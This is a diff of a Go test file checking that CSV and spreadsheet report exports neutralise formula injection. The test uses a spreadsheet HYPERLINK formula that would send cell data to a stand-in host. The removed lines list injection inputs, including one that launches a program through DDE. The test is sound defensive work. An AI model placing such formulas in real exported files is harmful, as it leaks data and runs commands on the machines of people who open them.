@@ -3,29 +3,17 @@ package report
 import (
 	"bytes"
 	"encoding/csv"
+	"regexp"
 	"strings"
 	"testing"
-)
 
-func TestWithoutFormula(t *testing.T) {
-	for cell, want := range map[string]string{
-		"": "", "randread": "randread", "4k q1": "4k q1", "a=b": "a=b", " ": " ",
-		"-1.5": "-1.5", "+3": "+3", "-1,5": "-1,5", "-1.5e-07": "-1.5e-07",
-		"2026-11-20T22:00:00Z": "2026-11-20T22:00:00Z",
-		"=1+1":                 "'=1+1", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3",
-		"@SUM(A1)": "'@SUM(A1)", "-1.5 MiB": "'-1.5 MiB", "-": "'-",
-		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", " =1": "' =1", "＝1": "'＝1", "--1": "'--1",
-		"1e5": "1e5", "+1-1": "'+1-1",
-	} {
-		if got := withoutFormula(cell); got != want {
-			t.Errorf("%q became %q, not %q", cell, got, want)
-		}
-	}
-}
+	"headroom/internal/render"
+)
 
 // A name that is a formula is none in any file that a spreadsheet reads, unless somebody wants it as it is. The numbers
 // stay numbers.
 func TestNoSheetHasAFormula(t *testing.T) {
+	plainNumber := regexp.MustCompile(`^[+-]?[0-9.,eE+-]+$`)
 	const evil = `=HYPERLINK("http://e.test/?"&A1)`
 	runs := fixtures(t)
 	for i := range runs {
@@ -57,14 +45,14 @@ func TestNoSheetHasAFormula(t *testing.T) {
 		"csv":   func(b *bytes.Buffer, o Options) error { return formatNamed(t, "csv").Write(b, runs, o) },
 		"sheet": func(b *bytes.Buffer, o Options) error { return formatNamed(t, "sheet").Write(b, runs, o) },
 		"compare": func(b *bytes.Buffer, o Options) error {
-			return writeDocumentCSV(b, CompareDocument(compared, o), o)
+			return render.CSV(b, CompareDocument(compared, o), o.Options)
 		},
-		"sweep": func(b *bytes.Buffer, o Options) error { return writeDocumentCSV(b, SweepDocument(swept, o), o) },
+		"sweep": func(b *bytes.Buffer, o Options) error { return render.CSV(b, SweepDocument(swept, o), o.Options) },
 		"ablation": func(b *bytes.Buffer, o Options) error {
-			return writeDocumentCSV(b, AblationDocument(ablated, o), o)
+			return render.CSV(b, AblationDocument(ablated, o), o.Options)
 		},
 		"bisection": func(b *bytes.Buffer, o Options) error {
-			return writeDocumentCSV(b, BisectionDocument(searched, o), o)
+			return render.CSV(b, BisectionDocument(searched, o), o.Options)
 		},
 	} {
 		read := func(o Options) (cells []string) {
@@ -81,7 +69,7 @@ func TestNoSheetHasAFormula(t *testing.T) {
 			}
 			return cells
 		}
-		plain, raw := read(Options{}), read(Options{RawCells: true})
+		plain, raw := read(Options{}), read(Options{Options: render.Options{RawCells: true}})
 		found := 0
 		for i, cell := range plain {
 			if strings.HasPrefix(raw[i], evil) {
